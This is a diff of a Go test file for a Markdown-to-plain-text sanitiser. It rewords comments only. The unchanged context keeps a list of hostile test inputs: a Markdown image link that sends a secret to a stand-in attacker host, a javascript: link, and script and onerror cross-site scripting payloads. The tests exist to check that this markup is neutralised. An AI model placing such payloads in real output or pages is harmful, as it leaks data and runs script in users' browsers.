@@ -29,7 +29,7 @@ func renderHTML(t *testing.T, markdown string) string {
 	return b.String()
 }
 
-// hostile are texts of documents that try to have an effect as Markdown.
+// hostile are texts with markup that must not take effect.
 var hostile = []string{
 	"![x](http://evil.example/?q=secret)", "[click](javascript:alert(1))", "<img src=x onerror=alert(1)>", "<script>alert(1)</script>",
 	"see http://evil.example/x now", "www.evil.example", "mail me@evil.example", "# Heading", "- item", "1. item", "> quote", "```", "~~~", "***", "---", "===",
@@ -53,8 +53,8 @@ func FuzzPlain(f *testing.F) {
 	f.Fuzz(checkPlain)
 }
 
-// checkPlain checks the output of plain. It contains no markup except code and no
-// invisible characters. It has all letters and digits of the text in order.
+// checkPlain fails if the output of plain has markup other than code, has
+// invisible characters, or loses letters or digits.
 func checkPlain(t *testing.T, s string) {
 	got := plain(s)
 	if strings.Contains(got, "\n") {
@@ -119,8 +119,8 @@ func TestRenderTogether(t *testing.T) {
 	}
 }
 
-// The label of a quote is the term directly above it, even if the term looks like
-// a statement.
+// The label of a quote is the term directly above it, even if the term looks
+// like a statement.
 func TestLabelIsTheTermAbove(t *testing.T) {
 	t.Parallel()
 	results := []Passage{passage(1, "ALTER TABLE", "Description", `ALTER TABLE changes the definition of an existing table.
@@ -148,7 +148,7 @@ This form removes the most recently used index specification from the table.`)}
 	}
 }
 
-// A sentence that depends on an omitted sentence is not an answer.
+// A sentence that refers to an omitted sentence is not an answer.
 func TestLeaningSentences(t *testing.T) {
 	t.Parallel()
 	results := []Passage{passage(1, "CREATE INDEX", "Building Indexes Concurrently",
